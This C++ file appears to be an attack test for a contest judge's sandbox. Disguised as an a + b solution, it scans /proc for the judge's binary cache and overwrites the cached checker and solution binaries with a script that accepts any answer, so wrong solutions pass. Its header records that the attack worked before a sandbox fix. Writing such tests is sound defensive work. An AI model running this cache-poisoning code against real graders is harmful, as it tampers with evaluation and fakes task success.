/**
 * Attack (issue 12): overwrite the judge's compiled binaries (checker, validator, solutions)
 *         with a script that accepts anything and answers a + b, so that a later, separate
 *         `judge run` of a wrong solution gets AC.
 * Problem: aplusb of judge/testroot (attack_test.sh: a throwaway copy, JUDGE_CACHE_DIR in a
 *          temporary folder)
 * Routes to the cache: the folder of /proc/self/exe (the binary runs from the cache), the
 *   JUDGE_CACHE_DIR of its own environment and of every visible process's /proc/<pid>/environ,
 *   `--cache DIR` in a visible process's command line, <root>/.cache/judge for the working
 *   folder and every visible process's cwd and their parents.
 * Prints: a + b. Contained = the cached binaries are unchanged and the wrong solution still
 *   gets WA (attack_test.sh checks both).
 * Safety: replaces files only below a real path holding ATTACK_TARGET (the test's temporary
 *   folder), never another cache.
 * Status: got through the judge before the sandbox (a35ce73) as root and as nobody: the wrong
 * solution then got AC. Contained by the sandbox.
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

#ifndef ATTACK_TARGET
#define ATTACK_TARGET "judge-attack-test"
#endif

using namespace std;

const char kScript[] =
    "#!/bin/sh\n"
    "# planted by judge/attacks/write_cache.cpp: a checker that accepts anything, a solution\n"
    "# that answers a + b\n"
    "if [ $# -ge 3 ]; then echo 'ok planted'; exit 0; fi\n"
    "read a b && echo $((a + b))\n";

bool read_file(const string& path, string& text) {
    int fd = open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return false;
    text.clear();
    char buffer[4096];
    ssize_t got;
    while ((got = read(fd, buffer, sizeof buffer)) > 0 && text.size() < (1u << 20))
        text.append(buffer, static_cast<size_t>(got));
    close(fd);
    return true;
}

string link_target(const string& path) {
    char buffer[PATH_MAX];
    ssize_t length = readlink(path.c_str(), buffer, sizeof buffer - 1);
    return length > 0 ? string(buffer, static_cast<size_t>(length)) : string();
}

vector<string> entries(const string& folder) {
    vector<string> names;
    if (DIR* dir = opendir(folder.c_str())) {
        while (dirent* entry = readdir(dir))
            if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
                names.push_back(entry->d_name);
        closedir(dir);
    }
    return names;
}

vector<string> split_nul(const string& text) {
    vector<string> parts;
    size_t start = 0;
    for (size_t i = 0; i <= text.size(); ++i)
        if (i == text.size() || text[i] == '\0') {
            if (i > start) parts.push_back(text.substr(start, i - start));
            start = i + 1;
        }
    return parts;
}

set<string> caches;

// `path` as seen by a process whose root and cwd are `root` and `cwd` (both /proc links).
void add_cache(const string& root, const string& cwd, const string& path) {
    if (path.empty()) return;
    caches.insert(path[0] == '/' ? root + path : cwd + "/" + path);
}

void add_roots(const string& base) {
    string up;
    for (int level = 0; level <= 4; ++level, up += "../") caches.insert(base + up + ".cache/judge");
}

bool in_target(const string& path) {
    char real[PATH_MAX];
    return realpath(path.c_str(), real) && strstr(real, ATTACK_TARGET) != nullptr;
}

int replaced = 0;

// Rename over the binary (works even while it runs), else truncate and write it in place.
void plant(const string& folder, const string& name) {
    string path = folder + "/" + name;
    struct stat info;
    if (lstat(path.c_str(), &info) != 0 || !S_ISREG(info.st_mode) || !(info.st_mode & S_IXUSR))
        return;
    if (!in_target(path)) return;
    string temp = folder + "/.planted-" + to_string(getpid()) + "-" + name;
    int fd = open(temp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd >= 0) {
        bool ok =
            write(fd, kScript, sizeof kScript - 1) == static_cast<ssize_t>(sizeof kScript - 1);
        close(fd);
        if (ok && rename(temp.c_str(), path.c_str()) == 0) {
            ++replaced;
            return;
        }
        unlink(temp.c_str());
    }
    fd = open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd >= 0) {
        if (write(fd, kScript, sizeof kScript - 1) > 0) ++replaced;
        close(fd);
    }
}

int main() {
    long long a = 0, b = 0;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;

    string exe = link_target("/proc/self/exe");
    if (size_t slash = exe.find_last_of('/'); slash != string::npos && slash > 0)
        caches.insert(exe.substr(0, slash));
    if (const char* env = getenv("JUDGE_CACHE_DIR")) add_cache("", ".", env);
    add_roots("");
    string self = to_string(getpid());
    for (const string& pid : entries("/proc")) {
        if (pid.find_first_not_of("0123456789") != string::npos || pid == self) continue;
        string base = "/proc/" + pid, root = base + "/root", cwd = base + "/cwd", text;
        add_roots(cwd + "/");
        if (read_file(base + "/environ", text))
            for (const string& variable : split_nul(text))
                if (variable.rfind("JUDGE_CACHE_DIR=", 0) == 0)
                    add_cache(root, cwd, variable.substr(16));
        if (read_file(base + "/cmdline", text)) {
            vector<string> args = split_nul(text);
            for (size_t i = 0; i < args.size(); ++i) {
                if (args[i] == "--cache" && i + 1 < args.size()) add_cache(root, cwd, args[i + 1]);
                if (args[i].rfind("--cache=", 0) == 0) add_cache(root, cwd, args[i].substr(8));
            }
        }
    }

    for (const string& cache : caches) {
        for (const string& name : entries(cache)) {
            string path = cache + "/" + name;
            struct stat info;
            if (lstat(path.c_str(), &info) == 0 && S_ISDIR(info.st_mode)) {
                for (const string& inner : entries(path)) plant(path, inner);
            } else {
                plant(cache, name);
            }
        }
    }
    fprintf(stderr, "write_cache: %d cached binaries replaced\n", replaced);
    printf("%lld\n", a + b);
}
